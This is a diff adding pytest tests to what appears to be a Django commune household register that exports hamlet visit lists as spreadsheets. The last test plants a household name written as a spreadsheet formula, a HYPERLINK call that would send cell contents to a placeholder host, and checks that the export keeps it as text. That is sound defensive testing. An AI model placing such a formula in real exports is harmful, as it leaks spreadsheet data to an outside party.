@@ -104,3 +104,41 @@ def test_taking_names_out_is_in_the_audit_trail(
         ("register.visit_list", "Xóm Bản Pấu"),
         ("register.persons_named", "Xã Phúc Chu"),
     ]
+
+
+def test_a_hamlet_without_households_gets_an_empty_visit_list(
+    stored: None, officer: User, phuc_chu: Unit
+) -> None:
+    empty = Unit.objects.create(
+        kind="hamlet", code="05560-03", name="Mới", type_name="Xóm", parent=phuc_chu
+    )
+    response = client_for(officer).get(_url("visit_list", phuc_chu, hamlet_code=empty.code))
+    assert response.status_code == 200
+    assert "0 hộ cần đến" in _text(response.content) or "0 households" in _text(response.content)
+
+
+def test_the_page_works_without_a_review_of_the_year(
+    officer: User, phuc_chu: Unit, hamlets: list[Unit]
+) -> None:
+    register_write(actor=officer, commune=phuc_chu, register=hand_register())
+    page = client_for(officer).get(_url("register", phuc_chu))
+    assert page.status_code == 200
+    assert "12/15" in page.content.decode()
+
+
+def test_a_name_written_as_a_formula_stays_text(
+    officer: User, phuc_chu: Unit, hamlets: list[Unit], phuc_chu_review: Review
+) -> None:
+    from dataclasses import replace
+
+    register = hand_register()
+    evil = replace(register.households[0], head_name='=HYPERLINK("http://x/?"&A1,"x")')
+    register_write(
+        actor=officer,
+        commune=phuc_chu,
+        register=hand_register(households=(evil, *register.households[1:])),
+    )
+    content = client_for(officer).get(_url("visit_list", phuc_chu, hamlet_code="05560-01"))
+    sheet = openpyxl.load_workbook(io.BytesIO(content.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == evil.head_name]
+    assert cells and all(cell.data_type == "s" for cell in cells)
